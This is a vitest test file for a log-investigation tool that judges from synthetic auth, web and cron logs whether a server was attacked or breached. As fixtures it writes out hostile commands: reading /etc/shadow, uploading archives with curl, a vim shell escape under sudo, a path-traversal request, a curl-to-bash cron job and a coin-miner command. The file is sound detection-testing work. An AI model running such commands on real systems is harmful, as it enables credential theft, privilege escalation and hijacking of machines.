import { describe, expect, test } from 'vitest';
import { investigateFiles, LogWriter } from '../../test/scenario.ts';
import type { Story } from './story.ts';

const OFFICE = '198.51.100.7';
const AWAY = '203.0.113.50';
const AUTH = 'web1/var/log/auth.log';
const log = () => new LogWriter('web1', '2026-05-01T08:00:00Z').life(60);
const logins = ({ entries }: Story) => entries.map(({ user, address }) => `${user} ${address}`);
const told = (writer: LogWriter) => investigateFiles({ [AUTH]: writer.text() });

function visit(writer: LogWriter, address: string, user: string, pid: number, commands: readonly string[] = []) {
  let inside = writer.enters(address, user, pid);
  for (const command of commands) inside = inside.sudo(user, command);
  return inside.leaves(user, pid).wait(3600);
}

describe('guesses at a name while its owner comes and goes', () => {
  const guessed = (writer: LogWriter) => {
    let next = writer;
    for (let at = 1; at <= 30; at += 1) next = next.fails(`203.0.113.${at}`, 'k.weber', 500 + at, 3);
    return next;
  };

  test('in the first week of the logs, from two places: a question, and nobody is accused', async () => {
    const writer = visit(visit(guessed(log()), OFFICE, 'k.weber', 700), '192.0.2.8', 'k.weber', 701);
    const story = await told(visit(writer.wait(80_000), OFFICE, 'k.weber', 702));
    expect(story).toMatchObject({ verdict: 'attacked', entries: [] });
    expect(story.block).not.toContain(OFFICE);
    expect(story.reasons.join()).toContain('a login that may be an intruder');
  });

  test('after that, from a place never seen', async () => {
    let writer = log();
    for (let day = 0; day < 9; day += 1) writer = visit(writer, OFFICE, 'k.weber', 100 + day).wait(80_000);
    writer = visit(guessed(writer), AWAY, 'k.weber', 700).wait(80_000);
    expect(logins(await told(visit(writer, AWAY, 'k.weber', 701)))).toContain(`k.weber ${AWAY}`);
  });
});

describe('what was done beside what is odd', () => {
  const known = () => visit(log(), OFFICE, 'mina', 200).wait(80_000);
  const away = (...commands: string[]) => told(visit(known(), AWAY, 'mina', 300, commands));
  const MAKES = '/usr/sbin/useradd -m tim';
  const SECRETS = '/usr/bin/cat /etc/shadow';

  test('secrets read and left where anybody fetches them', async () => {
    const sent = '/usr/bin/curl -T /tmp/d.tgz https://transfer.sh/d.tgz';
    expect(logins(await away(SECRETS, sent))).toEqual([`mina ${AWAY}`]);
    const bare = '/usr/bin/curl -F f=@/tmp/d.tgz http://192.0.2.9:8000/';
    expect(logins(await away(SECRETS, bare))).toEqual([`mina ${AWAY}`]);
  });

  test('not secrets looked at by somebody who lets another in and packs a backup', async () => {
    expect(logins(await away(SECRETS, MAKES, '/usr/bin/tar czf /var/backups/etc.tgz /etc'))).toEqual([]);
  });
});

describe('sudo that was got around', () => {
  const refused = (writer: LogWriter, command: string) =>
    writer.say('sudo', `   mina : command not allowed ; TTY=pts/0 ; PWD=/home/mina ; USER=root ; COMMAND=${command}`);
  const inside = (does: (writer: LogWriter) => LogWriter) =>
    told(does(visit(log(), OFFICE, 'mina', 200).enters(OFFICE, 'mina', 300)).leaves('mina', 300));

  test('a shell was refused, and got out of an editor', async () => {
    const story = await inside((writer) =>
      refused(writer, '/usr/bin/cat /etc/shadow').sudo('mina', '/usr/bin/vim -c :!/bin/bash'),
    );
    expect(logins(story)).toEqual([`mina ${OFFICE}`]);
    expect(story.reasons[0]).toContain('sudo refused');
  });

  test('what was refused was not done, and who then edits a file does nothing', async () => {
    const story = await inside((writer) =>
      refused(writer, '/usr/bin/cat /etc/shadow').sudo('mina', '/usr/bin/vim /etc/hosts'),
    );
    expect(story).toMatchObject({ verdict: 'quiet', entries: [] });
    expect(story.findings.map(({ title }) => title)).toEqual(['Grave command refused by sudo']);
  });
});

describe('an address that attacked the web server, and logs in', () => {
  const WEB = {
    'web1/var/log/nginx/access.log': `${AWAY} - - [01/May/2026:07:00:00 +0000] "GET /x?f=../../../../etc/passwd HTTP/1.1" 404 9 "-" "curl/8.5.0"\n`,
  };
  const comesAs = (user: string, how: string) => {
    const writer = visit(log(), OFFICE, 'mina', 200).enters(AWAY, user, 300, how).leaves(user, 300);
    return investigateFiles({ ...WEB, [AUTH]: writer.text() });
  };

  test('as the account of a service', async () => {
    expect(logins(await comesAs('www-data', 'publickey'))).toEqual([`www-data ${AWAY}`]);
  });

  test('as a person: a question, for people share addresses', async () => {
    const story = await comesAs('mina', 'password');
    expect(story).toMatchObject({ verdict: 'attacked', entries: [] });
    expect(story.reasons.join()).toContain('the same address attacked a web server');
  });
});

test('cronie’s sessions are nobody’s logins, though sshd had the number of their process before', async () => {
  let writer = log().fails('203.0.113.9', 'root', 900, 60);
  for (let at = 0; at < 5; at += 1)
    writer = writer
      .say('CROND[900]', 'pam_unix(crond:session): session opened for user root(uid=0) by (uid=0)')
      .say('sshd[900]', 'Disconnected from authenticating user root 203.0.113.9 port 40900 [preauth]')
      .say('CROND[900]', 'pam_unix(crond:session): session closed for user root', 60);
  expect(await told(writer)).toMatchObject({ verdict: 'attacked', entries: [], sessions: [] });
});

test('a coin miner beside a job that fetches its program each time is a breach, and one of them alone a question', async () => {
  const cron = (command: string) => `May  1 08:10:00 web1 CRON[77]: (root) CMD (${command})\n`;
  const job = cron('curl -s http://203.0.113.9/u.sh | bash');
  const mine = cron('/usr/bin/.x/xmrig -o pool.example.com:3333 -u 4');
  const verdict = async (syslog: string) => (await investigateFiles({ 'web1/var/log/syslog': syslog })).verdict;
  expect(await verdict(job)).toBe('attacked');
  expect(await verdict(mine)).toBe('attacked');
  expect(await verdict(job + mine)).toBe('breached');
});
